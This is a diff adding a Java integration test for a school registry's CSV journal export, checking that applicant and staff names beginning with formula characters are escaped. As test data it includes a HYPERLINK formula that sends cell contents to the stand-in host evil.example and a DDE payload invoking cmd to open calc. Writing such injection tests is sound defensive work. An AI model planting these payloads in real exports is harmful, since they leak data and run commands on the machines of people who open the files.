@@ -10,6 +10,7 @@ import java.nio.file.attribute.FileTime;
 import java.time.Instant;
 import java.util.ArrayList;
 import java.util.List;
+import java.util.Map;
 import java.util.UUID;
 
 import kz.qujat.registry.DocumentKind;
@@ -28,8 +29,13 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
 import org.springframework.beans.factory.annotation.Autowired;
+import org.springframework.jdbc.core.simple.JdbcClient;
 
 import tools.jackson.databind.JsonNode;
+import tools.jackson.databind.MappingIterator;
+import tools.jackson.databind.json.JsonMapper;
+import tools.jackson.dataformat.csv.CsvMapper;
+import tools.jackson.dataformat.csv.CsvSchema;
 
 /** The papers about a school: service passport posters, the public report, the journal and complaints. */
 class SchoolDocumentsIntegrationTests extends ServiceTest {
@@ -42,6 +48,12 @@ class SchoolDocumentsIntegrationTests extends ServiceTest {
 
 	@Autowired
 	IssuedDocuments documents;
+
+	@Autowired
+	JdbcClient jdbc;
+
+	@Autowired
+	JsonMapper json;
 
 	@ParameterizedTest(name = "{0} on {1}")
 	@CsvSource({ "teacher-attestation, A4", "teacher-attestation, A3", "school-admission, A4", "school-admission, A3",
@@ -209,6 +221,46 @@ class SchoolDocumentsIntegrationTests extends ServiceTest {
 		assertThat(table.lines().filter(line -> line.startsWith("ADM-2017-"))).hasSize(2000);
 		assertThat(table).startsWith("number,registered,applicant,documents,result,due,staff,status")
 			.contains("Ахметов Ерлан Ұланұлы, ЖСН/ИИН 871008401427");
+	}
+
+	@Test
+	void theCsvJournalNeutralisesFormulasInApplicantAndStaffNames() throws Exception {
+		String formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";
+		TestSchools.Made school = testSchools.create("formula-clerk", GENERAL_SCHOOL);
+		jdbc.sql("update staff set full_name = ? where id = ?").params(formula, school.clerk()).update();
+		Api clerk = api.as(school.username(), school.password());
+		for (String name : List.of(formula, "+7 701 000 00 01", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)")) {
+			HttpResponse<byte[]> issued = clerk.post("/api/v1/documents", """
+					{"kind": "receipt", "service": "teacher-attestation",
+					 "applicant": {"fullName": %s, "iin": "800416300257"},
+					 "documents": [{"code": "application"}]}""".formatted(json.writeValueAsString(name)));
+			assertThat(issued.statusCode()).as(Api.text(issued)).isEqualTo(201);
+		}
+
+		HttpResponse<byte[]> csv = clerk.get("/api/v1/reports/journal.csv?service=teacher-attestation&year=2026");
+		assertThat(csv.statusCode()).isEqualTo(200);
+		String table = new String(csv.body(), 3, csv.body().length - 3, StandardCharsets.UTF_8);
+		assertThat(table).contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")");
+		List<Map<String, String>> rows = new ArrayList<>();
+		CsvMapper reader = new CsvMapper();
+		try (MappingIterator<Map<String, String>> lines = reader.readerForMapOf(String.class)
+			.with(CsvSchema.emptySchema().withHeader())
+			.readValues(table)) {
+			lines.forEachRemaining(rows::add);
+		}
+		assertThat(rows).hasSize(4).allSatisfy(row -> {
+			assertThat(row.get("staff")).isEqualTo("'" + formula);
+			assertThat(row.get("applicant")).startsWith("'").endsWith(", ЖСН/ИИН 800416300257");
+			assertThat(row.values()).noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0);
+		});
+		assertThat(rows).extracting(row -> row.get("applicant"))
+			.containsExactlyInAnyOrder("'" + formula + ", ЖСН/ИИН 800416300257", "'+7 701 000 00 01, ЖСН/ИИН 800416300257",
+					"'-2+3+cmd|' /C calc'!A0, ЖСН/ИИН 800416300257", "'@SUM(1+9), ЖСН/ИИН 800416300257");
+
+		String printed = Pdfs.text(clerk.get("/api/v1/reports/journal.pdf?service=teacher-attestation&year=2026").body());
+		assertThat(printed).as("the printout shows the names as typed")
+			.contains("=HYPERLINK(\"http://evil", "+7 701 000 00 01", "@SUM(1+9)")
+			.doesNotContain("'=HYPERLINK", "'+7", "'@SUM");
 	}
 
 	@Test
